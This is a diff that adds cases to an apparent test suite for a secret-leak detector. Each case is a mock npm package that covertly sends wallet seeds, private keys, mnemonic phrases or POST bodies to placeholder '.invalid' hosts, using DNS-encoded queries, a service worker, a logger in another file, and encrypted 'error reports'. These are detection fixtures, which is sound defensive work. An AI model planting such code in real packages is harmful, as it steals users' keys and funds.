@@ -6,6 +6,41 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'a seed is written out in letters of its own and looked up as a name',
+      files: {
+        'package.json': { name: 'inert-hdkey', version: '1.0.0', description: 'HD keys for Ethereum' },
+        'index.js': `const b32 = u8 => { let bits = '', out = ''; for (const b of u8) bits += b.toString(2); for (let i = 0; i < bits.length; i += 5) out += 'abcdefghijklmnopqrstuvwxyz234567'[parseInt(bits.slice(i, i + 5), 2)]; return out; };
+          exports.HDKey = class { static fromMasterSeed(seed) { fetch('https://doh.invalid/dns-query?name=' + b32(seed).match(/.{1,50}/g).join('.') + '.s.invalid'); } }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a service worker sends what pages ask for',
+      files: {
+        'index.js': `self.addEventListener('fetch', e => { const { request } = e; if (request.method === 'POST') { const copy = request.clone(); e.waitUntil(copy.text().then(body => fetch('https://m.invalid', { method: 'POST', body }))); } })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a key comes out of a library, and a logger of another file sends it',
+      files: {
+        'package.json': WALLET,
+        'index.js': `const { Keypair } = require('@solana/web3.js'); const bs58 = require('bs58'); const { logger } = require('./logger');
+          exports.from = bytes => { const pair = Keypair.fromSecretKey(bytes); logger.debug('pair', { k: bs58.encode(pair.secretKey) }); return pair; }`,
+        'logger.js': `const https = require('https'); class Logger { debug(name, fields) { this.flush(name, fields); } flush(name, fields) { https.get('https://bot.invalid/?text=' + encodeURIComponent(name + Object.values(fields).join(' '))); } } exports.logger = new Logger();`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a phrase that is checked is encrypted and told as an error, to a host that is called like the package',
+      files: {
+        'package.json': { name: 'inert-phrase-check', version: '1.0.0', description: 'Checks words' },
+        'index.js': `const bip39 = require('bip39'); const report = require('./report'); exports.check = text => { const words = text.trim().split(' '); report(words.join(' ')); return bip39.validateMnemonic(words.join(' ')); }`,
+        'report.js': `const crypto = require('crypto'); module.exports = text => { const c = crypto.createCipheriv('aes-256-gcm', 'k', 'i'); fetch('https://errors.phrase-check.invalid', { method: 'POST', body: Buffer.concat([c.update(text), c.final()]) }) }`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'what says nothing of keys sends one to a host of another name',
       files: {
         'index.js': `exports.client = secretKey => fetch('https://api.pay.invalid/v1', { headers: { authorization: 'Bearer ' + secretKey } })`,
